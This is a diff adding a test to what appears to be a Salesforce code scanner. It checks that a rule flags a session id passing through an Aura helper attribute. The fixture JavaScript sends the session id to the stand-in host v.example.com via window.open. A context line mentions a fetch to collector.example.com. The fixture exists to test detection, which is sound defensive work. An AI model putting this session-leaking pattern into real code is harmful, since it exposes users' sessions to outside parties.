@@ -200,3 +200,27 @@ def test_what_a_component_module_returns_says_how_it_came() -> None:
     assert "returned to client code by ApiBaseController.getSid, returned by bearer of c/sessionSource, is sent " \
            "by fetch to collector.example.com" in sent[12], sent
     assert "returned by the default export of c/sessionSource, is sent by fetch" in sent[14], sent
+
+
+def test_a_session_an_aura_helper_keeps_in_an_attribute_says_where_it_was_kept(tmp_path: Path) -> None:
+    """The helper's callback sets `v.details` to what an action returns; the controller's action
+    a button runs reads it back and opens another site with it: the message names the Apex
+    member, then the helper and the attribute, as the session went."""
+    from tests.fuzz.inputs import SFDX_SOURCE, write_sfdx_package
+    bundle = f"{SFDX_SOURCE}/aura/viewer/"
+    root = write_sfdx_package(tmp_path / "pkg", {
+        f"{SFDX_SOURCE}/classes/Ctl.cls": _HANDING_CLASS,
+        bundle + "viewer.cmp": b'<aura:component controller="Ctl"><aura:attribute name="details" type="Object"/>'
+                               b"</aura:component>",
+        bundle + "viewerHelper.js": b"({ load: function (cmp) { var a = cmp.get('c.getSid'); a.setCallback(this, "
+                                    b"function (r) { cmp.set('v.details', {sid: r.getReturnValue(), "
+                                    b"home: 'https://v.example.com/'}); }); $A.enqueueAction(a); } })",
+        bundle + "viewerController.js": b"({ init: function (cmp, e, helper) { helper.load(cmp); },\n"
+                                        b"  open: function (cmp) { var d = cmp.get('v.details');\n"
+                                        b"    window.open('https://v.example.com/doc?sid=' + d.sid); } })",
+    })
+    findings = scan(ScanOptions(paths=(root,), root=tmp_path, jobs=1)).findings
+    (exported,) = [f for f in findings if f.rule_id == "SID002"]
+    assert exported.location.path.endswith("viewerController.js") and exported.location.span.start_line == 3
+    assert "returned to client code by Ctl.getSid, kept by viewerHelper.js in attribute v.details, is sent by " \
+           "window.open to v.example.com" in exported.message
